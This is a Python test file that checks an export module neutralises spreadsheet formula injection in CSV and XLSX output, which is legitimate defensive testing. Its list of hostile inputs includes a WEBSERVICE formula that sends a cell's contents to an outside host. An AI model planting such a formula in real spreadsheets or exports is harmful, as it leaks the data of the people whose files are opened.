"""Formula neutralisation of exported cells (OWASP CSV injection)."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from app.tabular import export

HOSTILE = ['=WEBSERVICE("http://x/?"&B3)', "+1", "-2", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_prefixes_a_quote_to_formula_starts(value: str) -> None:
    assert export.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Hà Nội", "0912 345 678", "a=b", " =1", "", "'quoted"])
def test_neutralise_leaves_other_text_alone(value: str) -> None:
    assert export.neutralise(value) == value


def test_csv_keeps_numbers_as_numbers_and_text_as_text() -> None:
    body = export.csv_bytes([["Tên", "Số"], ["-2", -2], ["+84 912 345 678", 3.5], [None, 0]])
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows == [["Tên", "Số"], ["'-2", "-2"], ["'+84 912 345 678", "3.5"], ["", "0"]]


def test_xlsx_cells_are_strings_never_formulas() -> None:
    book = Workbook(write_only=True)
    ws = book.create_sheet("a")
    for value in HOSTILE:
        ws.append(export.xlsx_row(ws, [value, -2]))
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet is not None
    for row, value in zip(sheet.iter_rows(), HOSTILE, strict=True):
        assert row[0].data_type == "s" and row[0].value == "'" + value.replace("\r", "\n")
        assert row[1].data_type == "n" and row[1].value == -2
